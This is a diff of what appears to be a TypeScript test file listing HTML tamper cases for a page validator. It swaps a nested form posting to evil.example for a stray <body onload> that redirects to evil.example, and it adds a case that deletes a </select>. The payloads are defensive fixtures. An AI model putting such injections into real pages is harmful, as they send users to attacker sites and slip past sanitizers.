@@ -49,10 +49,20 @@ const TAMPERS: Array<[string, (html: string) => string]> = [
     (html) =>
       html.replace('<main>', '<template><main>').replace('</main>', '</main></template><main>evil</main>'),
   ],
+  // (A nested <form action="https://evil.example/"> was here: the standard drops it with nothing kept, so
+  // since issue 23 it changes nothing a browser shows and the page stays valid. A stray <body> whose
+  // attribute moves onto the page's own <body> is what an ignored tag can still smuggle in.)
   [
-    'a <form action="https://evil.example/"> where the parser ignores it',
+    'a stray <body onload> whose attribute moves onto the page’s <body>',
     (html) =>
-      html.replace('<div><input name="q">', '<div><form action="https://evil.example/"><input name="q">'),
+      html.replace(
+        '<div><input name="q">',
+        '<div><body onload="location=\'https://evil.example/\'"><input name="q">',
+      ),
+  ],
+  [
+    'one </select> deleted, so the rest of <main> is swallowed into the dropdown',
+    (html) => html.replace('</option></select>', '</option>'),
   ],
   [
     'the text &lt;b&gt;&lt;/b&gt; in <noscript> replaced by the element <b></b>',
